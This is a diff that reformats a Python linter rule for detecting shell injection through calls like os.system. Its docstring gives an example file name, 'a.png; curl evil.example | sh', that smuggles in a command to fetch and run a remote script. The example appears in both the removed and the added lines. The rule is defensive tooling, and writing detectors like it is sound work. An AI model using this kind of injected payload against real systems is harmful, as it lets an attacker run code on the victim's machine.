@@ -1,7 +1,7 @@
 """A command run by a function that always uses the shell, such as `os.system`.
 
-The shell reads the whole text as a script. A file called `a.png; curl evil.example | sh` is then two commands, and the
-second one belongs to whoever named the file.
+The shell reads the whole text as a script. A file called `a.png; curl evil.example | sh` is then two commands,
+and the second one belongs to whoever named the file.
 
 ## Bad
 
@@ -62,9 +62,7 @@ def check(call: Call) -> Iterator[Finding]:
         return
     is_plain = is_string(call.node.args[0])
     yield call.finding(
-        SEEMS_SAFE
-        if is_plain
-        else "Starting a process with a shell, possible injection detected, security issue.",
+        SEEMS_SAFE if is_plain else "Starting a process with a shell, possible injection detected, security issue.",
         severity=LOW if is_plain else HIGH,
         span=call.span,
     )
